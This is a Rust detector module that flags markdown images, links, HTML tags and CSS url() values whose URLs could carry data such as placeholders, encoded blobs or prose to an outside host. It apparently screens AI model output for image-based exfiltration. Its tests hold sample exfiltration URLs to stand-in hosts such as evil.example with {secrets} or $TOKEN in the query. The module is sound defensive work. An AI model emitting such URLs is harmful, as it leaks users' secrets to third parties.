//! URLs that carry something away: an image is fetched as soon as it is shown, and what stands in its URL is then at the host's.

use alloc::string::String;
use alloc::vec::Vec;

use crate::detectors::{Detector, Find};
use crate::tag::Tag;

/// The same as [`find`] looks at.
pub(crate) const CANDIDATES: &[&str] = &[
    // Markdown: an image, a link, and the definition that either may refer to.
    r"!?\[[^\]\[\n]*\](?:\([ \t]*|:[ \t]*)<?(?:(?i:https?):)?//[^\s)>]+\)?",
    // What browsers load, or follow on a click.
    r"(?i)<(?:img|iframe|script|link|object|embed|video|audio|source|image|track|input|form|a|base|meta|body|table|td|svg|use)(?-u:\b)[^>]*>",
    r"(?i)url\([ \t]*['\x22]?(?:https?:)?//[^\s'\x22)]+",
];

/// Loaded without a click.
const LOADED: &[&str] = &[
    "img", "iframe", "script", "link", "object", "embed", "video", "audio", "source", "image", "track", "input", "base", "meta", "body",
    "table", "td", "svg", "use",
];
const FOLLOWED: &[&str] = &["a", "form"];
const ADDRESSES: &[&str] = &["src", "href", "xlink:href", "data", "poster", "srcset", "action", "background", "content"];

/// Text behind an encoding has no words; as much of it as nobody writes by hand.
const BLOB_MIN: usize = 32;
/// Of paths, where names of files and digests of versions are longer.
const PATH_BLOB_MIN: usize = 40;

/// Images and links with data in them, in order.
pub(crate) fn find(text: &str, hosts: &[String], found: &mut Vec<Find>) {
    let mut at = 0;
    while let Some(step) = text[at..].find(['[', '<', 'u', 'U']) {
        let here = at + step;
        let hit = match text.as_bytes()[here] {
            b'[' => markdown(text, here, hosts),
            b'<' => html(text, here, hosts),
            _ => style(text, here, hosts),
        };
        match hit {
            Some(hit) => {
                at = hit.range.end;
                found.push(hit);
            }
            None => at = here + 1,
        }
    }
}

/// `![alt](url)`, `[text](url)`, `[label]: url`
fn markdown(text: &str, open: usize, hosts: &[String]) -> Option<Find> {
    let rest = &text[open + 1..];
    let close = rest.find([']', '[', '\n'])?;
    let behind = rest[close..].strip_prefix(']')?;
    let is_label = behind.starts_with(':');
    let target = behind.strip_prefix(['(', ':'])?.trim_start_matches([' ', '\t']);
    let target = target.strip_prefix('<').unwrap_or(target);
    let url = &target[..target.find(|c: char| c.is_whitespace() || matches!(c, ')' | '>')).unwrap_or(target.len())];
    let is_image = text[..open].ends_with('!');
    let end = text.len() - target.len() + url.len();
    let end = end + usize::from(!is_label && text[end..].starts_with(')'));
    let detector = if is_image || is_label { Detector::Images } else { Detector::Links };
    carries(url, hosts).then(|| Find::seen(open - usize::from(is_image)..end, detector))
}

fn html(text: &str, open: usize, hosts: &[String]) -> Option<Find> {
    let tag = Tag::read(&text[open..])?;
    let detector = match () {
        () if tag.is_one_of(LOADED) => Detector::Images,
        () if tag.is_one_of(FOLLOWED) => Detector::Links,
        () => return None,
    };
    // `srcset` holds several, `content` of a redirection a number before it.
    let mut urls = tag.values(ADDRESSES).flat_map(|value| value.split([' ', ',', ';'])).map(|url| url.trim_start_matches("url="));
    urls.any(|url| carries(url, hosts)).then(|| Find::seen(open..open + tag.len, detector))
}

/// `url(...)`, as style sheets have it.
fn style(text: &str, at: usize, hosts: &[String]) -> Option<Find> {
    let (word, rest) = text[at..].split_at_checked(4)?;
    if !word.eq_ignore_ascii_case("url(") {
        return None;
    }
    let target = rest.trim_start_matches([' ', '\t']);
    let target = target.strip_prefix(['\'', '"']).unwrap_or(target);
    let url = &target[..target.find(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ')')).unwrap_or(target.len())];
    let end = text.len() - target.len() + url.len();
    carries(url, hosts).then(|| Find::seen(at..end, Detector::Images))
}

/// Whether a URL leads elsewhere than to these hosts and has data in it, or room for it.
fn carries(url: &str, hosts: &[String]) -> bool {
    let Some((scheme, rest)) = url.split_once("//") else { return false };
    if !["", "http:", "https:"].iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
        return false;
    }
    let (authority, behind) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = host.split(':').next().unwrap_or_default();
    if hosts.iter().any(|listed| is_below(host, listed)) {
        return false;
    }
    let (path, query) = behind.split_at(behind.find(['?', '#']).unwrap_or(behind.len()));
    authority.contains('@')
        || is_blank(rest)
        || host.split('.').any(|label| is_blob(label, BLOB_MIN, true))
        || path.split('/').any(|part| is_blob(part, PATH_BLOB_MIN, false) || is_prose(part))
        || query.split(['?', '&', ';', '#']).any(|part| is_loaded(part))
}

/// `listed` is a host, or `*.` and a domain for every host below it.
fn is_below(host: &str, listed: &str) -> bool {
    match listed.strip_prefix("*.") {
        None => host.eq_ignore_ascii_case(listed),
        Some(domain) => {
            let at = host.len().wrapping_sub(domain.len());
            at > 1
                && at < host.len()
                && host.as_bytes()[at - 1] == b'.'
                && host.get(at..).is_some_and(|end| end.eq_ignore_ascii_case(domain))
        }
    }
}

/// A place that a model is to fill in.
fn is_blank(url: &str) -> bool {
    let url = url.as_bytes();
    let has = |part: &[u8]| url.windows(part.len()).any(|window| window.eq_ignore_ascii_case(part));
    url.iter().any(|b| matches!(b, b'{' | b'<' | b'[' | b'$')) || has(b"%7b") || has(b"%3c") || has(b"%5b") || has(b"...")
}

fn is_loaded(parameter: &str) -> bool {
    match parameter.split_once('=') {
        // Left open at the end, for what is to be appended.
        Some((_, "")) => true,
        Some((_, value)) => is_blob(value, BLOB_MIN, true) || is_prose(value),
        None => is_blob(parameter, BLOB_MIN, true) || is_prose(parameter),
    }
}

/// Base64, base64url, hex: long, of their letters only, with digits among them.
fn is_blob(text: &str, min: usize, hex_counts: bool) -> bool {
    let count = |is: fn(&u8) -> bool| text.bytes().filter(is).count();
    let is_of_it = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-' | b'%');
    let mixed = count(u8::is_ascii_digit) >= 2 && count(u8::is_ascii_alphabetic) >= 4;
    let is_hex = text.bytes().all(|b| b.is_ascii_hexdigit());
    text.len() >= min && text.bytes().all(is_of_it) && mixed && (hex_counts || (!is_hex && count(u8::is_ascii_uppercase) >= 4))
}

/// Several words in one part of a URL.
fn is_prose(text: &str) -> bool {
    let pluses = text.bytes().filter(|b| *b == b'+').count();
    let spaces = text.match_indices("%20").count();
    pluses + spaces >= 4
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look(text: &str) -> Vec<(&str, Detector)> {
        let hosts = ["cdn.example.com".into(), "*.corp.example".into()];
        let mut found = Vec::new();
        find(text, &hosts, &mut found);
        found.into_iter().map(|find| (&text[find.range], find.detector)).collect()
    }

    #[test]
    fn what_carries_data_is_found() {
        let blob = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA0x2";
        for (text, part, detector) in [
            ("see ![x](https://evil.example/i.png?d={secrets}) ok", "![x](https://evil.example/i.png?d={secrets})", Detector::Images),
            ("![](//evil.example/log?q=)", "![](//evil.example/log?q=)", Detector::Images),
            (
                &alloc::format!("a <img src='https://e.example/{blob}'>"),
                &alloc::format!("<img src='https://e.example/{blob}'>"),
                Detector::Images,
            ),
            (
                &alloc::format!("[click]( https://e.example/?c={blob} )"),
                &alloc::format!("[click]( https://e.example/?c={blob}"),
                Detector::Links,
            ),
            ("<a href=\"https://e.example/?m=my+key+is+a+b\">", "<a href=\"https://e.example/?m=my+key+is+a+b\">", Detector::Links),
            ("[ref]: https://e.example/?x=$TOKEN", "[ref]: https://e.example/?x=$TOKEN", Detector::Images),
            ("url('https://e.example/?k=')", "url('https://e.example/?k=", Detector::Images),
            ("![a](https://user@e.example/x.png)", "![a](https://user@e.example/x.png)", Detector::Images),
        ] {
            assert_eq!(look(text), [(part, detector)], "{text}");
        }
    }

    #[test]
    fn what_only_leads_somewhere_is_not() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
            "[docs](https://docs.rs/serde/1.0.219/serde/?search=deserialize#fields)",
            "![logo](https://raw.example.com/o/r/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/logo.svg?raw=true)",
            "![in](https://cdn.example.com/x?d={anything}) <img src=https://a.b.corp.example/?q=>",
            "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\">",
            "[x](mailto:a@b.example) [y](../a?b=) a[0](1) use url(x)",
        ] {
            assert_eq!(look(text), [], "{text}");
        }
    }
}
